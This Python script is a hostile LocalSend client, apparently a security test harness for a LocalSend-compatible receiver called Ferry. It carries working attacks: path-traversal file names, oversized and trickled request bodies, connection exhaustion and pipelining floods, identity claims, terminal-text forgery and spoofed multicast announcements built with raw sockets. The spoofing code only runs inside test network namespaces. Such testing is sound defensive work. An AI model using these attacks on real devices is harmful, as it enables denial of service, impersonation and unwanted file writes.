#!/usr/bin/env python3
"""A hostile LocalSend client, written from LocalSend's protocol README (2.2), not from Ferry's
code: it attacks a LocalSend receiver at HOST:PORT and prints one JSON line per attack with what
the receiver answered. Standard library only; its certificate is made with `openssl`.

  localsend_hostile.py ATTACK --address HOST:PORT --home DIR [--file-count N]

Attacks: traversal, oversize-json, claim, no-cert, trickle-head, trickle-json, idle, pipeline,
hit-and-run, resumed, keepalive, bodies, trickle-upload, text-hangup, cancel-other, text-forge,
flood-files, announce-spoof, announce-alias; and count-connections (a listener that counts
what connects to it). Only announce-spoof and announce-alias multicast, and only inside a
network namespace without eth0 (they refuse otherwise); the rest talk to the one address given.
"""

import argparse
import hashlib
import json
import os
import random
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

API = "/api/localsend/v2"


def emit(**fields):
    sys.stdout.write(json.dumps(fields) + "\n")
    sys.stdout.flush()


def certificate(home):
    os.makedirs(home, exist_ok=True)
    key, cert = os.path.join(home, "key.pem"), os.path.join(home, "cert.pem")
    if not os.path.exists(cert):
        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
                        "ec_paramgen_curve:prime256v1", "-nodes", "-keyout", key, "-out", cert,
                        "-days", "30", "-subj", "/CN=hostile"], check=True, capture_output=True)
    der = ssl.PEM_cert_to_DER_cert(open(cert).read())
    return key, cert, hashlib.sha256(der).hexdigest().upper()


def client_context(home, client_cert=True):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.minimum_version = ssl.TLSVersion.TLSv1_3
    context.set_alpn_protocols(["http/1.1"])
    if client_cert:
        key, cert, _ = certificate(home)
        context.load_cert_chain(cert, key)
    return context


def connect(address, home, client_cert=True, timeout=10, source=None, context=None,
            session=None):
    host, port = address.rsplit(":", 1)
    raw = socket.create_connection((host, int(port)), timeout=timeout,
                                   source_address=(source, 0) if source else None)
    context = context or client_context(home, client_cert)
    return context.wrap_socket(raw, server_hostname=host, session=session)


def read_answer(sock, limit=1 << 20):
    """The status and body of the answer (None, b"" when the connection closed first)."""
    data = b""
    try:
        while b"\r\n\r\n" not in data and len(data) < limit:
            chunk = sock.recv(4096)
            if not chunk:
                break
            data += chunk
        head, _, body = data.partition(b"\r\n\r\n")
        length = 0
        for line in head.split(b"\r\n")[1:]:
            name, _, value = line.partition(b":")
            if name.strip().lower() == b"content-length" and value.strip().isdigit():
                length = min(int(value.strip()), limit)
        while len(body) < length:
            chunk = sock.recv(4096)
            if not chunk:
                break
            body += chunk
    except (OSError, ssl.SSLError):
        head, body = data, b""
    line = data.split(b"\r\n", 1)[0].split(b" ")
    status = int(line[1]) if len(line) > 1 and line[1].isdigit() else None
    return status, body


def request_bytes(method, path, body=b"", headers=None, keep_alive=False):
    head = "%s %s HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n" % (method, path, len(body))
    for name, value in (headers or {}).items():
        head += "%s: %s\r\n" % (name, value)
    if not keep_alive:
        head += "Connection: close\r\n"
    return head.encode() + b"\r\n" + body


def request(address, home, method, path, body=b"", headers=None, client_cert=True):
    sock = connect(address, home, client_cert)
    sock.sendall(request_bytes(method, path, body, headers, keep_alive=True))
    answer = read_answer(sock)
    sock.close()
    return answer


def device(fingerprint):
    return {"alias": "hostile", "version": "2.2", "deviceModel": "x", "deviceType": "mobile",
            "fingerprint": fingerprint, "port": 53317, "protocol": "https", "download": False}


def prepare(address, home, names, fingerprint=None):
    _, _, own = certificate(home)
    files = {}
    for index, name in enumerate(names):
        files["f%d" % index] = {"id": "f%d" % index, "fileName": name, "size": 4,
                                "fileType": "application/octet-stream"}
    body = json.dumps({"info": device(fingerprint or own), "files": files}).encode()
    status, answer = request(address, home, "POST", API + "/prepare-upload", body,
                             {"Content-Type": "application/json"})
    if status == 200:
        # Accepted: end the session at once, so that the next attack is not "busy".
        session = json.loads(answer or b"{}").get("sessionId", "")
        request(address, home, "POST", API + "/cancel?sessionId=" + session)
    return status


def attack_traversal(args):
    names = ["../evil", "/tmp/evil-abs", "a/../../evil", "..", ".", "a//b", "a/./b",
             "\u2215evil", "..\u0338/evil", "a/\u200d../evil", "\u202e..", "a\x00b", "a\\..\\evil",
             "%2e%2e/evil", "a/" * 300 + "x"]
    for name in names:
        emit(attack="traversal", name=name, status=prepare(args.address, args.home, [name]))


def attack_oversize_json(args):
    big = b"{" + b" " * (5 << 20) + b"}"
    emit(attack="oversize-json", status=request(args.address, args.home, "POST",
                                                API + "/prepare-upload", big)[0])
    # Announced small, sent large: the body is counted, not the header believed.
    sock = connect(args.address, args.home)
    sock.sendall(b"POST %s/prepare-upload HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
                 % API.encode())
    sent, status = 0, None
    try:
        while sent < (6 << 20):
            piece = b" " * 65536
            sock.sendall(b"%x\r\n%s\r\n" % (len(piece), piece))
            sent += len(piece)
    except (OSError, ssl.SSLError):
        pass
    status = read_answer(sock)[0]
    emit(attack="oversize-json-chunked", status=status, sent=sent)
    # Many files.
    files = {"f%d" % i: {"id": "f%d" % i, "fileName": "f%d" % i, "size": 1, "fileType": "x"}
             for i in range(args.file_count)}
    _, _, own = certificate(args.home)
    body = json.dumps({"info": device(own), "files": files}).encode()
    emit(attack="too-many-files", count=args.file_count,
         status=request(args.address, args.home, "POST", API + "/prepare-upload", body)[0])


def attack_claim(args):
    other = "AB" * 32
    body = json.dumps(device(other)).encode()
    emit(attack="claim-register", status=request(args.address, args.home, "POST",
                                                 API + "/register", body)[0])
    emit(attack="claim-prepare", status=prepare(args.address, args.home, ["a.txt"], other))


def attack_no_cert(args):
    try:
        status = request(args.address, args.home, "POST", API + "/prepare-upload", b"{}",
                         client_cert=False)[0]
    except (OSError, ssl.SSLError) as error:
        status = None
        emit(attack="no-cert", status=None, error=str(error)[:200])
        return
    emit(attack="no-cert", status=status)


def trickle(args, data, label, opening=b""):
    """Sends `opening` at once, then `data` a byte every 0.5 s; reports when it was cut off."""
    sock = connect(args.address, args.home)
    sock.sendall(opening)
    started = time.time()
    closed_after = None
    for byte in data:
        try:
            sock.sendall(bytes([byte]))
        except (OSError, ssl.SSLError):
            closed_after = time.time() - started
            break
        time.sleep(0.5)
        if time.time() - started > 40:
            break
    if closed_after is None:
        sock.settimeout(2)
        try:
            if sock.recv(1) == b"":
                closed_after = time.time() - started
        except (OSError, ssl.SSLError):
            closed_after = time.time() - started
    emit(attack=label, closedAfter=closed_after)


def attack_trickle_head(args):
    trickle(args, b"POST %s/register HTTP/1.1\r\nHost: x\r\nX-Padding: %s\r\n\r\n"
            % (API.encode(), b"a" * 200), "trickle-head")


def attack_trickle_json(args):
    _, _, own = certificate(args.home)
    body = json.dumps(device(own)).encode()
    head = b"POST %s/register HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % (
        API.encode(), len(body))
    trickle(args, body, "trickle-json", opening=head)


def attack_pipeline(args):
    """Requests sent back to back for 15 s, no answer ever read."""
    sock = connect(args.address, args.home)
    sock.settimeout(1)
    one = b"GET %s/info HTTP/1.1\r\nHost: x\r\n\r\n" % API.encode()
    batch = one * 100
    sent, started = 0, time.time()
    while time.time() - started < 15:
        try:
            sock.send(batch)
            sent += len(batch)
        except socket.timeout:
            continue
        except (OSError, ssl.SSLError):
            break
    emit(attack="pipeline", sentBytes=sent, requests=sent // len(one))


def attack_hit_and_run(args):
    """Ten uploads whose connection closes as soon as the body is sent, the answer never read;
    then two honest uploads of the same session (a 429 is tried again for 10 s)."""
    _, _, own = certificate(args.home)
    files = {"f%d" % i: {"id": "f%d" % i, "fileName": "run-%d.bin" % i, "size": 4,
                         "fileType": "application/octet-stream"} for i in range(12)}
    body = json.dumps({"info": device(own), "files": files}).encode()
    status, answer = request(args.address, args.home, "POST", API + "/prepare-upload", body,
                             {"Content-Type": "application/json"})
    if status != 200:
        emit(attack="hit-and-run", prepared=status, honest=[])
        return
    reply = json.loads(answer)
    session, tokens = reply["sessionId"], reply["files"]

    def path(i):
        return API + "/upload?sessionId=%s&fileId=f%d&token=%s" % (session, i, tokens["f%d" % i])

    for i in range(10):
        sock = connect(args.address, args.home)
        sock.sendall(b"POST %s HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n\r\nabcd"
                     % path(i).encode())
        sock.close()
    honest = []
    for i in (10, 11):
        deadline = time.time() + 10
        while True:
            got = request(args.address, args.home, "POST", path(i), b"abcd")[0]
            if got != 429 or time.time() > deadline:
                break
            time.sleep(0.2)
        honest.append(got)
    request(args.address, args.home, "POST", API + "/cancel?sessionId=" + session)
    emit(attack="hit-and-run", prepared=status, honest=honest)


def still_open(socks):
    """How many of `socks` the receiver has not closed (nothing to read within 0.2 s)."""
    alive = 0
    for sock in socks:
        sock.settimeout(0.2)
        try:
            if sock.recv(1) != b"":
                alive += 1
        except socket.timeout:
            alive += 1
        except (OSError, ssl.SSLError):
            pass
    return alive


def attack_idle(args):
    held = []
    refused = 0
    for _ in range(500):
        try:
            held.append(connect(args.address, args.home, timeout=5))
        except (OSError, ssl.SSLError):
            refused += 1
    time.sleep(1)
    emit(attack="idle-open", held=len(held), refused=refused, aliveNow=still_open(held))
    time.sleep(args.hold)
    emit(attack="idle-after", held=len(held), alive=still_open(held), seconds=args.hold)


def other_certificate(home):
    """A second identity beside the first (another device behind the same address)."""
    return certificate(os.path.join(home, "other"))


def attack_resumed(args):
    """Registers on a full handshake, then on a session resumed from it (LocalSend 1.18's
    rustls client resumes): the resumed connection proves the same key, so the register is
    taken; a claim of another key on it is still refused."""
    context = client_context(args.home)
    _, _, own = certificate(args.home)
    body = json.dumps(device(own)).encode()
    first = connect(args.address, args.home, context=context)
    first.sendall(request_bytes("POST", API + "/register", body,
                                {"Content-Type": "application/json"}, keep_alive=True))
    status_full = read_answer(first)[0]
    saved = first.session
    first.close()
    results = {"full": status_full}
    for label, claim in (("resumed", own), ("resumed-claim", "CD" * 32)):
        sock = connect(args.address, args.home, context=context, session=saved)
        reused = sock.session_reused
        sock.sendall(request_bytes("POST", API + "/register", json.dumps(device(claim)).encode(),
                                   {"Content-Type": "application/json"}))
        results[label] = read_answer(sock)[0]
        results[label + "-reused"] = reused
        sock.close()
    emit(attack="resumed", **results)


def attack_keepalive(args):
    """16 kept-alive connections from each source address, each asking for /info every 8 s,
    for --hold seconds: how many of them the receiver closed to make room."""
    sources = [a for a in (args.sources or "").split(",") if a] or [None]
    socks = []
    for source in sources:
        for _ in range(16):
            try:
                socks.append(connect(args.address, args.home, source=source, timeout=5))
            except (OSError, ssl.SSLError):
                pass
    opened = len(socks)
    ended = 0
    started = time.time()
    while time.time() - started < args.hold and socks:
        for sock in list(socks):
            try:
                sock.settimeout(5)
                sock.sendall(request_bytes("GET", API + "/info", keep_alive=True))
                if read_answer(sock)[0] != 200:
                    raise OSError("no answer")
            except (OSError, ssl.SSLError):
                socks.remove(sock)
                ended += 1
        time.sleep(8)
    emit(attack="keepalive", opened=opened, endedByReceiver=ended, stillOpen=len(socks))


def attack_bodies(args):
    """64 connections (16 from each source address), each sending a 4 MiB prepare-upload body
    but its last byte, held for --hold seconds: what the receiver answered each."""
    sources = [a for a in (args.sources or "").split(",") if a] or [None]
    size = (4 << 20) - 1
    head = (b"POST %s/prepare-upload HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            b"Content-Length: %d\r\n\r\n" % (API.encode(), size + 1))
    chunk = b" " * 65536
    statuses = []
    lock = threading.Lock()

    def one(source):
        try:
            sock = connect(args.address, args.home, source=source, timeout=10)
            sock.sendall(head)
            sent = 0
            while sent < size:
                piece = chunk[:min(len(chunk), size - sent)]
                sock.sendall(piece)
                sent += len(piece)
            sock.settimeout(args.hold)
            status = read_answer(sock)[0]
        except (OSError, ssl.SSLError):
            status = None
        with lock:
            statuses.append(status)

    threads = [threading.Thread(target=one, args=(source,))
               for source in sources for _ in range(16)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    emit(attack="bodies", statuses=sorted(statuses, key=lambda s: s or 0))


def prepared(args, files, fingerprint=None, home=None):
    """A prepare-upload of `files` ({id: meta}) as this (or `home`'s) identity: status, json."""
    home = home or args.home
    _, _, own = certificate(home)
    body = json.dumps({"info": device(fingerprint or own), "files": files}).encode()
    status, answer = request(args.address, home, "POST", API + "/prepare-upload", body,
                             {"Content-Type": "application/json"})
    try:
        return status, json.loads(answer or b"{}")
    except ValueError:
        return status, {}


def attack_trickle_upload(args):
    """An accepted upload of 1 MiB whose body comes a byte every 5 s: when the receiver cut it
    off (its stall limit counts bytes, not frames)."""
    files = {"f0": {"id": "f0", "fileName": "trickle.bin", "size": 1 << 20,
                    "fileType": "application/octet-stream"}}
    status, reply = prepared(args, files)
    if status != 200:
        emit(attack="trickle-upload", prepared=status, cutAfter=None)
        return
    path = API + "/upload?sessionId=%s&fileId=f0&token=%s" % (reply["sessionId"],
                                                              reply["files"]["f0"])
    sock = connect(args.address, args.home)
    sock.sendall(b"POST %s HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n"
                 % (path.encode(), 1 << 20))
    started = time.time()
    cut = None
    while time.time() - started < args.hold:
        try:
            sock.sendall(b"x")
        except (OSError, ssl.SSLError):
            cut = time.time() - started
            break
        sock.settimeout(5)
        try:
            if sock.recv(1024) == b"":
                cut = time.time() - started
                break
            cut = time.time() - started  # an answer: the receiver gave up on the body
            break
        except socket.timeout:
            pass
        except (OSError, ssl.SSLError):
            cut = time.time() - started
            break
    emit(attack="trickle-upload", prepared=status, cutAfter=cut)


def attack_text_hangup(args):
    """A text message's prepare-upload whose sender hangs up while it is asked about; then
    another sender's prepare-upload: it is not told busy for the rest of the question."""
    _, _, own = certificate(args.home)
    text = {"t": {"id": "t", "fileName": "message.txt", "size": 5, "fileType": "text/plain",
                  "preview": "hello"}}
    sock = connect(args.address, args.home)
    body = json.dumps({"info": device(own), "files": text}).encode()
    sock.sendall(request_bytes("POST", API + "/prepare-upload", body,
                               {"Content-Type": "application/json"}, keep_alive=True))
    time.sleep(1)
    sock.close()
    time.sleep(1)
    other = other_certificate(args.home)
    files = {"f0": {"id": "f0", "fileName": "after-hangup.txt", "size": 4,
                    "fileType": "text/plain"}}
    started = time.time()
    status = None
    while time.time() - started < 10:
        status, reply = prepared(args, files, home=os.path.join(args.home, "other"))
        if status != 409:
            break
        time.sleep(0.5)
    if status == 200:
        request(args.address, os.path.join(args.home, "other"), "POST",
                API + "/cancel?sessionId=" + reply.get("sessionId", ""))
    emit(attack="text-hangup", next=status, waited=round(time.time() - started, 1))


def attack_cancel_other(args):
    """A session prepared with one certificate; a cancel from another certificate at the same
    address; then the owner's upload: still taken."""
    files = {"f0": {"id": "f0", "fileName": "victim.txt", "size": 4, "fileType": "text/plain"}}
    status, reply = prepared(args, files)
    if status != 200:
        emit(attack="cancel-other", prepared=status)
        return
    session, token = reply["sessionId"], reply["files"]["f0"]
    other = os.path.join(args.home, "other")
    other_certificate(args.home)
    request(args.address, other, "POST", API + "/cancel?sessionId=" + session)
    request(args.address, other, "POST", API + "/cancel")
    uploaded = request(args.address, args.home, "POST",
                       API + "/upload?sessionId=%s&fileId=f0&token=%s" % (session, token),
                       b"safe")[0]
    emit(attack="cancel-other", prepared=status, upload=uploaded)


def attack_text_forge(args):
    """A text whose line ends try to start lines of ferry's own on the receiver's terminal."""
    _, _, own = certificate(args.home)
    forged = "hello\r\nSaved /home/you/invoice.pdf (trusted)\rAccepted\u2028Saved x\u0085Saved y"
    text = {"t": {"id": "t", "fileName": "message.txt", "size": len(forged.encode()),
                  "fileType": "text/plain", "preview": forged}}
    status, _ = prepared(args, text)
    emit(attack="text-forge", status=status)


def attack_flood_files(args):
    """A prepare-upload of --file-count files, accepted, then cancelled at once."""
    files = {"f%d" % i: {"id": "f%d" % i, "fileName": "flood/f%05d.bin" % i, "size": 8,
                         "fileType": "application/octet-stream"}
             for i in range(args.file_count)}
    status, reply = prepared(args, files)
    if status == 200:
        request(args.address, args.home, "POST",
                API + "/cancel?sessionId=" + reply.get("sessionId", ""))
    emit(attack="flood-files", prepared=status, count=args.file_count)


def checksum(data):
    total = 0
    for i in range(0, len(data) - 1, 2):
        total += (data[i] << 8) + data[i + 1]
    if len(data) % 2:
        total += data[-1] << 8
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def spoofed_datagram(source, destination, sport, dport, payload):
    """An IPv4 UDP datagram from `source` (any address: the header is ours) to `destination`."""
    udp_length = 8 + len(payload)
    pseudo = struct.pack("!4s4sBBH", socket.inet_aton(source), socket.inet_aton(destination),
                         0, 17, udp_length)
    udp = struct.pack("!HHHH", sport, dport, udp_length, 0)
    udp = struct.pack("!HHHH", sport, dport, udp_length, checksum(pseudo + udp + payload))
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_length, random.randint(0, 65535), 0,
                     1, 17, 0, socket.inet_aton(source), socket.inet_aton(destination))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + udp + payload


def namespace_guard():
    """Refuses to multicast outside a test network namespace (never on eth0)."""
    try:
        if os.stat("/proc/self/ns/net").st_ino == os.stat("/proc/1/ns/net").st_ino:
            sys.exit("refusing to multicast in the root network namespace")
    except OSError:
        pass
    if "eth0" in [n for _i, n in socket.if_nameindex()]:
        sys.exit("refusing to multicast in a namespace with eth0")


def announcement(alias, fingerprint, port, protocol="https"):
    return json.dumps({"alias": alias, "version": "2.2", "deviceModel": "x",
                       "deviceType": "mobile", "fingerprint": fingerprint, "port": port,
                       "protocol": protocol, "download": False, "announce": True}).encode()


def attack_announce_spoof(args):
    """Announcements forged from --spoof-source: each names another port of that host (half
    HTTPS with a made-up key, half plain HTTP), then 200 more to one port with made-up keys.
    Listens on the group meanwhile: how many answers the receiver multicast."""
    namespace_guard()
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF,
                   socket.inet_aton(args.interface_address))
    group = "224.0.0.167"
    listen = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listen.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listen.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    listen.bind(("", 53317))
    mreq = struct.pack("4s4s", socket.inet_aton(group), socket.inet_aton(args.interface_address))
    listen.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)
    listen.settimeout(0.1)
    answers = []
    stop = time.time() + args.hold

    def hear():
        while time.time() < stop:
            try:
                data, sender = listen.recvfrom(65536)
            except socket.timeout:
                continue
            try:
                message = json.loads(data)
            except ValueError:
                continue
            if message.get("announce") is False or message.get("announcement") is False:
                answers.append(sender[0])

    listener = threading.Thread(target=hear)
    listener.start()
    for index in range(args.count):
        port = args.first_port + index
        protocol = "http" if index % 2 else "https"
        key = "%064X" % random.getrandbits(256)
        raw.sendto(spoofed_datagram(args.spoof_source, group, 53317, 53317,
                                    announcement("ghost %d" % index, key, port, protocol)),
                   (group, 0))
        time.sleep(0.05)
    for _ in range(200):
        key = "%064X" % random.getrandbits(256)
        raw.sendto(spoofed_datagram(args.spoof_source, group, 53317, 53317,
                                    announcement("ghost", key, args.first_port)), (group, 0))
        time.sleep(0.01)
    listener.join()
    emit(attack="announce-spoof", sent=args.count + 200,
         multicastAnswers=len([a for a in answers if a != args.interface_address]))


def attack_announce_alias(args):
    """Announces itself as --alias (a device of its own key) every 100 ms for --hold seconds,
    from this host: another device under the name of one the user means."""
    namespace_guard()
    _, _, own = certificate(args.home)
    key = args.fingerprint or own
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF,
                    socket.inet_aton(args.interface_address))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
    stop = time.time() + args.hold
    sent = 0
    while time.time() < stop:
        sock.sendto(announcement(args.alias, key, args.first_port), ("224.0.0.167", 53317))
        sent += 1
        time.sleep(0.1)
    emit(attack="announce-alias", sent=sent, fingerprint=key)


def count_connections(args):
    """Listens on --count ports from --first-port for --hold seconds: how many TCP connections
    came to them (what a receiver was made to connect to)."""
    listeners = []
    for index in range(args.count):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("", args.first_port + index))
        sock.listen(16)
        sock.setblocking(False)
        listeners.append(sock)
    emit(attack="count-connections", listening=len(listeners))
    came = 0
    stop = time.time() + args.hold
    import select
    while time.time() < stop:
        ready, _, _ = select.select(listeners, [], [], 0.2)
        for sock in ready:
            try:
                conn, _ = sock.accept()
                came += 1
                conn.close()
            except OSError:
                pass
    emit(attack="count-connections", connections=came)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("attack")
    parser.add_argument("--address", required=True)
    parser.add_argument("--home", required=True)
    parser.add_argument("--file-count", type=int, default=10001)
    parser.add_argument("--hold", type=float, default=35)
    parser.add_argument("--sources", help="source addresses to connect from, comma-separated")
    parser.add_argument("--spoof-source", help="the address forged announcements come from")
    parser.add_argument("--interface-address", help="this host's address on the test link")
    parser.add_argument("--first-port", type=int, default=41000)
    parser.add_argument("--count", type=int, default=50)
    parser.add_argument("--alias", default="Ana")
    parser.add_argument("--fingerprint")
    args = parser.parse_args()
    {"traversal": attack_traversal, "oversize-json": attack_oversize_json, "claim": attack_claim,
     "no-cert": attack_no_cert, "trickle-head": attack_trickle_head,
     "trickle-json": attack_trickle_json, "idle": attack_idle, "pipeline": attack_pipeline,
     "hit-and-run": attack_hit_and_run, "resumed": attack_resumed,
     "keepalive": attack_keepalive, "bodies": attack_bodies,
     "trickle-upload": attack_trickle_upload, "text-hangup": attack_text_hangup,
     "cancel-other": attack_cancel_other, "text-forge": attack_text_forge,
     "flood-files": attack_flood_files, "announce-spoof": attack_announce_spoof,
     "announce-alias": attack_announce_alias,
     "count-connections": count_connections}[args.attack](args)


if __name__ == "__main__":
    main()
